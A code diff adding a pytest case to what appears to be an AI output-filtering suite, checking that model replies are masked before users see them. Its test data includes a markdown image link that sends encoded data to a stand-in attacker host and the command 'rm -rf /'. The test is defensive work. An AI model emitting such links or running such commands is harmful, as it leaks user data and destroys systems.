@@ -149,6 +149,20 @@ def test_refusal_of_the_model_passes_the_output_rails_too(store: Store) -> None:
     assert end.text.startswith("I can't share the card [")
 
 
+@pytest.mark.parametrize(
+    ("reply", "shown"),
+    [
+        ("Look: ![x](https://evil.example/a.png?d=c2VjcmV0) Done.", "Look: [REMOTE_IMAGE_1] Done."),
+        ("Then type rm -rf / and wait.", "Then type [DESTRUCTION_1] and wait."),
+    ],
+)
+def test_links_that_carry_data_out_and_dangerous_commands_are_masked(store: Store, reply: str, shown: str) -> None:
+    door = open_door(store, reply=lambda _: reply)
+    actor = door.user("ada")
+    end = closed(list(door.native_llm.chat(actor, door.agent(actor), QUESTION)))
+    assert (end.outcome, end.text) == ("answered", shown)
+
+
 def test_restricted_dataset_is_searched_only_for_who_may_use_it(store: Store) -> None:
     door = open_door(store)
     add_dataset(store, "open")
